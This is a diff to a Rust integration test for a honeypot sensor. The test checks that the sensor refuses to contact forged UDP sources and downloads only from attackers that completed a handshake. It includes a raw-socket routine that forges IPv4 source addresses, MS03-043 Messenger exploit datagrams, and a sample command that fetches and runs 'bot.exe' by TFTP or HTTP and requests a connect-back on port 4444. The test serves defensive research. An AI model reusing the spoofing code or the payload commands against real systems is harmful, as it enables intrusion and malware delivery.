@@ -296,6 +296,13 @@ fn sensor_in_namespaces_downloads_from_attacker_only() {
         ))
         .expect("sensor runs")
     });
+    // Started as root without `user`: the sensor says so before anything.
+    match ev_rx.recv_timeout(Duration::from_secs(20)).expect("warning") {
+        SensorEvent::Warning { message, .. } => {
+            assert!(message.starts_with("running as root"), "{message}")
+        }
+        other => panic!("first event {other:?}"),
+    }
     match ev_rx
         .recv_timeout(Duration::from_secs(20))
         .expect("sensor started")
@@ -588,4 +595,221 @@ fn sensor_in_namespaces_downloads_from_attacker_only() {
         .map(|c| c.orig_pkts)
         .sum();
     assert_eq!(probes, 40 * 3);
+}
+
+/// Sends one UDP datagram whose IPv4 source is `src`, whatever this
+/// namespace's addresses are (a raw socket writing its own IP header).
+fn send_forged_udp(src: Ipv4Addr, src_port: u16, dst: Ipv4Addr, dst_port: u16, payload: &[u8]) {
+    let total = 20 + 8 + payload.len();
+    let mut pkt = vec![0x45, 0, (total >> 8) as u8, total as u8, 0, 1, 0, 0, 64, 17, 0, 0];
+    pkt.extend_from_slice(&src.octets());
+    pkt.extend_from_slice(&dst.octets());
+    pkt.extend_from_slice(&src_port.to_be_bytes());
+    pkt.extend_from_slice(&dst_port.to_be_bytes());
+    pkt.extend_from_slice(&((8 + payload.len()) as u16).to_be_bytes());
+    pkt.extend_from_slice(&[0, 0]); // no UDP checksum (allowed over IPv4)
+    pkt.extend_from_slice(payload);
+    // SAFETY: a raw socket (IPPROTO_RAW implies IP_HDRINCL; the kernel
+    // fills in the IP checksum); the buffers outlive the calls.
+    unsafe {
+        let fd = libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW);
+        assert!(fd >= 0, "raw socket: {}", std::io::Error::last_os_error());
+        let mut sa: libc::sockaddr_in = std::mem::zeroed();
+        sa.sin_family = libc::AF_INET as libc::sa_family_t;
+        sa.sin_addr.s_addr = u32::from(dst).to_be();
+        let n = libc::sendto(
+            fd,
+            pkt.as_ptr().cast(),
+            pkt.len(),
+            0,
+            (&sa as *const libc::sockaddr_in).cast(),
+            std::mem::size_of::<libc::sockaddr_in>() as libc::socklen_t,
+        );
+        let err = std::io::Error::last_os_error();
+        libc::close(fd);
+        assert_eq!(n, pkt.len() as isize, "sendto: {err}");
+    }
+}
+
+fn nft_packets_to(ns: &str, addr: &str) -> u64 {
+    let out = Command::new("ip")
+        .args(["netns", "exec", ns, "nft", "list", "chain", "inet", "bs", "out"])
+        .output()
+        .unwrap();
+    let text = String::from_utf8_lossy(&out.stdout);
+    let line = text
+        .lines()
+        .find(|l| l.contains(&format!("ip daddr {addr} ")))
+        .unwrap_or_else(|| panic!("no rule for {addr}: {text}"));
+    let words: Vec<&str> = line.split_whitespace().collect();
+    let i = words.iter().position(|w| *w == "packets").expect("counter");
+    words[i + 1].parse().unwrap()
+}
+
+/// A datagram with a forged source names that source as the place to
+/// fetch from (TFTP, HTTP, connect-back). The sensor must not act on it:
+/// the source never completed a TCP handshake. The same instruction from
+/// a source that did is carried out.
+#[test]
+fn forged_udp_source_is_never_contacted() {
+    const ATK: &str = "10.202.1.2";
+    const FORGED: &str = "10.202.1.66"; // nobody's address, inside the test's veth subnet
+    const SENSOR: &str = "10.202.0.10";
+    let tag = std::process::id() % 100_000;
+    let sens = Netns::new(format!("bsf{tag}"));
+    let atk = Netns::new(format!("bsg{tag}"));
+    let (vs, va) = (format!("vf{tag}"), format!("vg{tag}"));
+    sh(&["ip", "link", "add", &vs, "type", "veth", "peer", "name", &va]);
+    sh(&["ip", "link", "set", &vs, "netns", &sens.0]);
+    sh(&["ip", "link", "set", &va, "netns", &atk.0]);
+    sh(&["ip", "-n", &sens.0, "addr", "add", &format!("{SENSOR}/16"), "dev", &vs]);
+    sh(&["ip", "-n", &sens.0, "link", "set", &vs, "up"]);
+    sh(&["ip", "-n", &atk.0, "addr", "add", &format!("{ATK}/16"), "dev", &va]);
+    sh(&["ip", "-n", &atk.0, "link", "set", &va, "up"]);
+    let nft = |args: &[&str]| {
+        let mut a = vec!["ip", "netns", "exec", &sens.0, "nft"];
+        a.extend_from_slice(args);
+        sh(&a);
+    };
+    nft(&["add", "table", "inet", "bs"]);
+    nft(&["add", "chain", "inet", "bs", "out", "{ type filter hook output priority 0 ; }"]);
+    for addr in [FORGED, ATK] {
+        nft(&["add", "rule", "inet", "bs", "out", "ip", "daddr", addr, "counter"]);
+    }
+
+    let tmp = tempfile::tempdir().unwrap();
+    let cfg = SensorConfig::parse(&format!(
+        "addresses = [\"{SENSOR}\"]\ntcp_ports = [445]\nudp_ports = [135]\nlog = \"{}\"\n\
+         [limits]\nsession_idle_secs = 1\ndownload_timeout_secs = 5\n",
+        tmp.path().join("sensor.jsonl").display()
+    ))
+    .unwrap();
+    let (ev_tx, ev_rx) = mpsc::channel::<SensorEvent>();
+    let (stop_tx, stop_rx) = tokio::sync::oneshot::channel::<()>();
+    let store = botscope_specimen::Store::open(&tmp.path().join("store")).unwrap();
+    let sensor = in_ns(&sens.0, move || -> RunReport {
+        let rt = tokio::runtime::Builder::new_current_thread()
+            .enable_all()
+            .build()
+            .unwrap();
+        rt.block_on(run(
+            cfg,
+            std::sync::Arc::new(StoreSink(std::sync::Mutex::new(store))),
+            move |e| {
+                let _ = ev_tx.send(e.clone());
+            },
+            async {
+                let _ = stop_rx.await;
+            },
+        ))
+        .expect("sensor runs")
+    });
+    let wait_for = |what: &str, pred: &dyn Fn(&SensorEvent) -> bool| -> Vec<SensorEvent> {
+        let mut seen = Vec::new();
+        let deadline = Instant::now() + Duration::from_secs(30);
+        while Instant::now() < deadline {
+            if let Ok(e) = ev_rx.recv_timeout(Duration::from_millis(200)) {
+                let hit = pred(&e);
+                seen.push(e);
+                if hit {
+                    return seen;
+                }
+            }
+        }
+        panic!("no {what} event; saw {seen:?}");
+    };
+    wait_for("started", &|e| matches!(e, SensorEvent::Started { .. }));
+
+    // A Messenger (MS03-043) datagram "from" FORGED telling the victim to
+    // fetch from FORGED three ways.
+    let instruction = format!(
+        "cmd /c tftp -i {FORGED} GET bot.exe & echo http://{FORGED}/bot.exe & connect to me on port 4444"
+    );
+    let script = client_script(
+        Vector::Ms03_043,
+        FORGED,
+        SENSOR,
+        None,
+        None,
+        &instruction,
+        1000,
+        [7; 16],
+        SmbIds::default(),
+    );
+    assert!(script.udp && script.port == 135);
+    let datagram = script.messages[0].clone();
+    let forged: Ipv4Addr = FORGED.parse().unwrap();
+    let to: Ipv4Addr = SENSOR.parse().unwrap();
+    in_ns(&atk.0, move || send_forged_udp(forged, 1028, to, 135, &datagram))
+        .join()
+        .unwrap();
+    let seen = wait_for("refused", &|e| {
+        matches!(e, SensorEvent::Refused { instruction: botscope_sensor::instructions::DownloadInstruction::Push { .. }, .. })
+    });
+    let datagram = seen
+        .iter()
+        .find_map(|e| match e {
+            SensorEvent::Datagram { src, vectors, instructions, .. } => Some((*src, vectors.clone(), instructions.len())),
+            _ => None,
+        })
+        .expect("datagram logged");
+    assert_eq!(datagram.0, SocketAddr::new(IpAddr::V4(forged), 1028));
+    assert_eq!(datagram.1, vec!["MS03-043".to_string()]);
+    assert_eq!(datagram.2, 3);
+    let refusals: Vec<String> = seen
+        .iter()
+        .filter_map(|e| match e {
+            SensorEvent::Refused { instruction, reason, .. } => {
+                Some(format!("{} {reason}", instruction.method()))
+            }
+            _ => None,
+        })
+        .collect();
+    let why = format!(
+        "datagram source {FORGED} has not completed a TCP handshake with the sensor; it may be forged"
+    );
+    assert_eq!(
+        refusals,
+        [format!("tftp {why}"), format!("http {why}"), format!("reverse {why}")]
+    );
+
+    // The same kind of instruction from a source that completed a
+    // handshake is carried out: ATK connects (and leaves), then asks by
+    // UDP to be connected back to on 4444, where it serves a synthetic
+    // body.
+    let body: Vec<u8> = (0..5000u32).map(|i| (i * 7 % 251) as u8).collect();
+    let sha = {
+        use sha2::Digest;
+        hex::encode(sha2::Sha256::digest(&body))
+    };
+    let served = body.clone();
+    in_ns(&atk.0, move || {
+        let rev = TcpListener::bind(format!("{ATK}:4444")).unwrap();
+        std::thread::spawn(move || {
+            if let Ok((mut s, _)) = rev.accept() {
+                let _ = s.write_all(&served);
+            }
+        });
+        drop(connect_from_attacker(SocketAddr::new(IpAddr::V4(to), 445)));
+        std::thread::sleep(Duration::from_millis(300));
+        let u = UdpSocket::bind(format!("{ATK}:0")).unwrap();
+        u.send_to(b"cmd /c connect to me on port 4444\0", (to, 135)).unwrap();
+    })
+    .join()
+    .unwrap();
+    let seen = wait_for("download", &|e| matches!(e, SensorEvent::Download { .. }));
+    match seen.last() {
+        Some(SensorEvent::Download { attacker, sha256, error, copy_method, .. }) => {
+            assert_eq!(attacker.to_string(), ATK);
+            assert_eq!((sha256.as_deref(), error.as_deref()), (Some(sha.as_str()), None));
+            assert_eq!(copy_method, "reverse_connect");
+        }
+        other => panic!("{other:?}"),
+    }
+    let _ = stop_tx.send(());
+    let report = sensor.join().expect("sensor thread");
+    assert_eq!((report.refused, report.downloads_ok), (3, 1));
+    // Not one packet to the forged source; the counters do count (ATK).
+    assert_eq!(nft_packets_to(&sens.0, FORGED), 0);
+    assert!(nft_packets_to(&sens.0, ATK) > 0);
 }
